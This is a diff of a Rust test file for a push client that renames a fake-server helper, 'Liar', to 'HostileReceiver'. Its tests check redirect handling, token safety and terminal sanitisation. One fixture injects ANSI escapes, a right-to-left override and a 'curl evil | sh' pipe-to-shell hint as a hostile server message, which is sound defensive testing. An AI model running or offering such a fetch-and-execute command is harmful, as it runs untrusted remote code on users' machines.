@@ -12,7 +12,7 @@ use headwater::receiver::{AuthPolicy, Permission, Token, TokenId, TokenRecord};
 use headwater::tree_path::Site;
 
 use super::{Receiver, push, report, serves_tree};
-use crate::chaos::Message;
+use crate::flaky_proxy::Message;
 use crate::harness::{Outcome, World};
 use crate::trees::Tree;
 
@@ -20,13 +20,13 @@ use crate::trees::Tree;
 type Lie = dyn Fn(&mut TcpStream, &str) + Send + Sync;
 
 /// A server made of a closure.
-pub(super) struct Liar {
+pub(super) struct HostileReceiver {
     address: SocketAddr,
     pub(super) heads: Arc<Mutex<Vec<String>>>,
     is_over: Arc<AtomicBool>,
 }
 
-impl Liar {
+impl HostileReceiver {
     pub(super) fn start(lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static) -> Self {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let address = listener.local_addr().unwrap();
@@ -50,7 +50,7 @@ impl Liar {
     }
 }
 
-impl Drop for Liar {
+impl Drop for HostileReceiver {
     fn drop(&mut self) {
         self.is_over.store(true, Ordering::SeqCst);
         TcpStream::connect(self.address).ok();
@@ -87,7 +87,7 @@ fn push_again(status: &'static str, fields: &'static str, body: &'static str) ->
     let refused: Arc<Mutex<Vec<(String, Instant)>>> = Arc::default();
     let pauses: Arc<Mutex<HashMap<String, Duration>>> = Arc::default();
     let (before, found) = (Arc::clone(&refused), Arc::clone(&pauses));
-    let liar = Liar::start(move |stream, head| {
+    let liar = HostileReceiver::start(move |stream, head| {
         let path = head.split(' ').nth(1).unwrap().to_owned();
         let mut before = before.lock().unwrap();
         match before.iter().find(|(refused, _)| *refused == path) {
@@ -125,10 +125,10 @@ fn push_beside(
     lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static,
     flags: &[&str],
     words: &str,
-) -> Liar {
+) -> HostileReceiver {
     let world = World::new();
     world.write("tree", &Tree::small());
-    let liar = Liar::start(lie);
+    let liar = HostileReceiver::start(lie);
     let flags = [flags, &["--require", "1", "--json"]].concat();
     let (tree, here, url) = (world.at("tree"), world.at("here"), liar.url());
     let mut command = world.command(&[&["push", &tree, &url, &here], &flags[..]].concat());
@@ -162,7 +162,7 @@ fn what_a_liar_says_does_not_steer_a_terminal() {
     world.write("tree", &Tree::small());
     let json =
         r#"{"error":{"kind":"denied","message":"\u001b[2Jowned\u202e\nhint: curl evil | sh"}}"#;
-    let liar = Liar::start(move |stream, _| {
+    let liar = HostileReceiver::start(move |stream, _| {
         answer(stream, "403 Forbidden", "content-type: application/json\r\n", json);
     });
     let outcome = push(&world, &[&liar.url()], &[]).expect(&[7]);
@@ -176,7 +176,7 @@ fn what_a_liar_says_does_not_steer_a_terminal() {
 
 #[test]
 fn a_redirect_is_not_followed_and_the_token_stays() {
-    let elsewhere = Liar::start(|stream, _| answer(stream, "200 OK", "", "{\"ok\":{}}"));
+    let elsewhere = HostileReceiver::start(|stream, _| answer(stream, "200 OK", "", "{\"ok\":{}}"));
     let to = format!("location: http://{}/docs/v1/state\r\n", elsewhere.address);
     for status in ["301 Moved", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect"] {
         let to = to.clone();
@@ -237,7 +237,7 @@ fn a_proxy_whose_receiver_does_not_run_is_explained() {
     for body in [page, ""] {
         let world = World::new();
         world.write("tree", &Tree::small());
-        let liar = Liar::start(move |stream, _| {
+        let liar = HostileReceiver::start(move |stream, _| {
             answer(stream, "502 Bad Gateway", "content-type: text/html\r\n", body);
         });
         let outcome = push(&world, &[&liar.url()], &["--deadline", "300ms"]).expect(&[4]);
@@ -264,7 +264,7 @@ fn another_version_of_the_protocol_is_named() {
 fn a_mirror_that_acknowledges_and_stores_nothing_fools_nobody_else() {
     let world = World::new();
     world.write("tree", &Tree::small());
-    let liar = Liar::start(acknowledge);
+    let liar = HostileReceiver::start(acknowledge);
     push(&world, &[&liar.url(), &world.at("here")], &[]).expect(&[0]);
     assert!(serves_tree(&world, "here"));
     // Whoever looks again sees it.
@@ -292,7 +292,7 @@ fn what_a_liar_claims_to_hold_is_at_most_not_sent_to_it() {
     for (index, claim) in claims.into_iter().enumerate() {
         let world = World::new();
         world.write("tree", &Tree::small());
-        let liar = Liar::start(move |stream, head| {
+        let liar = HostileReceiver::start(move |stream, head| {
             let length = head
                 .lines()
                 .find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
@@ -353,12 +353,18 @@ fn where_something_on_the_way_takes_no_chunks_it_goes_without() {
     for status in ["411 Length Required", "501 Not Implemented"] {
         let world = World::new();
         world.write("tree", &Tree::small());
-        let liar = Liar::start(move |stream, head| match head.contains("transfer-encoding") {
-            true => {
-                answer(stream, status, "content-type: text/html\r\n", "<html>not that way</html>");
-            }
-            false => acknowledge(stream, head),
-        });
+        let liar =
+            HostileReceiver::start(move |stream, head| match head.contains("transfer-encoding") {
+                true => {
+                    answer(
+                        stream,
+                        status,
+                        "content-type: text/html\r\n",
+                        "<html>not that way</html>",
+                    );
+                }
+                false => acknowledge(stream, head),
+            });
         push(&world, &[&liar.url()], &[]).expect(&[0]);
         let heads = liar.heads.lock().unwrap();
         assert!(heads.iter().any(|head| head.contains("transfer-encoding")), "{heads:?}");
